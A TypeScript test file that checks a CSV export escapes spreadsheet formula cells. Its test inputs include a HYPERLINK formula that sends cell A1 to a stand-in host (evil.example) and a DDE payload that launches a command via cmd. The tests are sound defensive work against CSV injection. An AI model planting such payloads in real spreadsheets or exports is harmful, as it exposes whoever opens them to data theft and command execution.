// CSV export: cells a spreadsheet would run as formulas are escaped (OWASP), others left as they are.
import { describe, expect, it } from "vitest";
import { auditCsv, csvCell, type AuditRow } from "./list.ts";

describe("audit CSV cells", () => {
  it("quotes a formula behind a single quote, whatever starts it", () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect(csvCell(hyperlink)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    for (const start of ["+", "-", "@", "\t", "\r", "＝"]) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
  });

  it("leaves ordinary text, numbers and JSON alone, quoting only what CSV needs", () => {
    expect(csvCell("ops@example.com")).toBe("ops@example.com");
    expect(csvCell(42)).toBe("42");
    expect(csvCell(null)).toBe("");
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  it("escapes the actor of a failed sign-in in the export", () => {
    const actor = "@SUM(1+1)*cmd|' /C calc'!A0";
    const row = {
      seq: 1,
      at: new Date(0),
      actor,
      action: "auth.sign-in",
      target: "console",
      reason: null,
      outcome: "refused",
      guards: null,
      details: null,
      hash: "h",
    } satisfies AuditRow;
    const line = auditCsv([row]).split("\n")[1];
    expect(line).toBe(`1,1970-01-01T00:00:00.000Z,"'${actor}",auth.sign-in,console,,refused,,,h`);
  });
});
